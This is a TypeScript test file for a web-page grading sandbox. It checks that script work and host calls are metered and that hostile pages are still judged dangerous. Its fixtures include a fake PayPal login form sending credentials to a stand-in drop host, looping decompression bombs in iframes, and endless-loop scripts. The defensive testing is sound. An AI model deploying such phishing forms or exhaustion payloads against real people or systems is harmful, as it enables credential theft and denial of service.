import { describe, expect, test } from 'bun:test'
import { deflateRawSync } from 'node:zlib'
import { BOUNDS, noting } from '../../../src/trust/bounds/bounds.ts'
import { grade } from '../../../src/trust/grade.ts'
import { Work } from '../../../src/trust/sandbox/work.ts'
import { viewsOf } from '../../../src/trust/subjects.ts'
import { captureOf } from '../captures.ts'
import { runScript } from './open-page.ts'

/** Work that a page's script takes. */
function spentBy(code: string): number {
  const work = new Work()
  runScript(code, { work })
  return BOUNDS.steps.most - work.left
}

/** Work of a call, without that of a page and of the loop around it. */
function costOf(call: string, before = ''): number {
  const times = 20
  const run = (body: string) => spentBy(`${before}; for (let i = 0; i < ${times}; i++) { ${body} }`)
  return (run(`try { ${call} } catch {}`) - run('')) / times
}

const packed = (bytes: number) => deflateRawSync(Buffer.alloc(bytes)).toString('base64')
const UNPACK = (bytes: number) =>
  `const raw = Uint8Array.from(atob('${packed(bytes)}'), (one) => one.charCodeAt(0))`
const PIPE = "new Blob([raw]).stream().pipeThrough(new DecompressionStream('deflate-raw'))"

describe('a call of the host is charged for what it puts out or has to do [T9]', () => {
  test('unpacking, for as much as may come out, and gives back what has not', () => {
    expect(costOf(PIPE, UNPACK(BOUNDS.inflated.most + 1))).toBeGreaterThan(BOUNDS.inflated.most)
    const small = costOf(PIPE, UNPACK(1_000))
    expect(small).toBeLessThan(BOUNDS.inflated.most / 4)
  })

  test('an address, by the square of its length', () => {
    const of = (length: number) => costOf(`new URL(name)`, `const name = 'https://' + '中'.repeat(${length})`)
    expect(of(19_000)).toBeGreaterThan(700_000)
    expect(of(100)).toBeLessThan(100_000)
    expect(costOf('new URL(name)', "const name = '/'.padEnd(30000, 'a')")).toBeLessThan(400_000)
  })

  test('a file name, a copied text and a text that is run, by their lengths', () => {
    const long = "const long = 'x'.repeat(400000)"
    expect(costOf('navigator.clipboard.writeText(long)', long)).toBeGreaterThan(100_000)
    expect(costOf('(0, eval)(long)', "const long = ' '.repeat(400000)")).toBeGreaterThan(400_000)
    expect(costOf('fetch("/" + long)', "const long = 'x'.repeat(15000)")).toBeGreaterThan(500_000)
  })

  test('the name of a module, by what the import map has', () => {
    const map = (count: number) =>
      JSON.stringify({
        imports: Object.fromEntries(Array.from({ length: count }, (_, at) => [`a${at}`, '/a.js'])),
      })
    const spent = (count: number) => {
      const work = new Work()
      const code = "</script><script>for (let i = 0; i < 100; i++) import('none' + i).catch(() => 0)"
      runScript(`0</script><script type=importmap>${map(count)}${code}`, { work })
      return BOUNDS.steps.most - work.left
    }
    expect(spent(1_000) - spent(1)).toBeGreaterThan(100 * 900)
  })

  test('numbers of hashing and of decryption', () => {
    const digest = "crypto.subtle.digest('SHA-256', data)"
    expect(costOf(digest, 'const data = new Uint8Array(300000)')).toBeGreaterThan(300_000)
  })
})

describe('all drawings of a capture have one budget [T6, T9]', () => {
  test('so that a page without end takes the others their turns, and the page itself has its own first', () => {
    const work = new Work()
    const { bounds } = noting(() => {
      expect(runScript('for (;;);', { work }).scripts).toMatchObject({ ran: 1, cut: 'steps' })
      const left = work.left
      expect(left).toBeWithin(0, BOUNDS.steps.most - 199_000_000)
      for (let frame = 0; frame < 20; frame++) runScript('for (;;);', { work })
    })
    expect(work.left).toBeWithin(-30_000_000, 1)
    expect(bounds).toEqual(['steps'])
    expect(runScript('document.body.textContent = 1', { work }).loaded).toBeNull()
  })

  test('a page that unpacks bombs in a loop, in two frames as well, is judged by what was sent', () => {
    const bomb = `<script>navigator.maxTouchPoints; ${UNPACK(2_200_000)}; for (;;) try { ${PIPE} } catch {}</script>`
    const phish = `<title>PayPal: Log in to your account</title><h1>Log in to PayPal</h1><p>Your account has been limited.
      <form action="https://drop.example/x"><input type=email name=e><input type=password name=p></form>`
    const frame = (html: string) => `<iframe srcdoc="${html.replaceAll('"', '&quot;')}"></iframe>`
    const page = phish + bomb + frame(`${bomb}<p>1`) + frame(`${bomb}<p>2`)
    const report = grade(captureOf('http://login.evil.com/', { body: page }))
    expect(report).toMatchObject({ verdict: 'dangerous', coverage: { scripts: { cut: 'steps' } } })
    expect(report.coverage.bounds).toContain('steps')
    expect(report.coverage.limits).toContain('scripts_cut')
  })

  test('a page that is to be stopped at once, or in the middle, is judged by what was sent [T5]', () => {
    const body =
      '<title>PayPal login</title><h1>PayPal</h1><form action="https://drop.example/x"><input type=password></form><script>for (;;);</script>'
    for (const after of [0, 1, 500]) {
      let asked = 0
      const capture = captureOf('http://login.evil.com/', { body })
      const { verdict, coverage } = grade(
        capture,
        undefined,
        viewsOf(capture, () => asked++ >= after),
      )
      expect({ verdict, cut: coverage.scripts.cut }).toEqual({ verdict: 'dangerous', cut: 'time' })
      expect(coverage.bounds).toContain('time')
      expect(coverage.limits).toContain('scripts_cut')
    }
  })
})
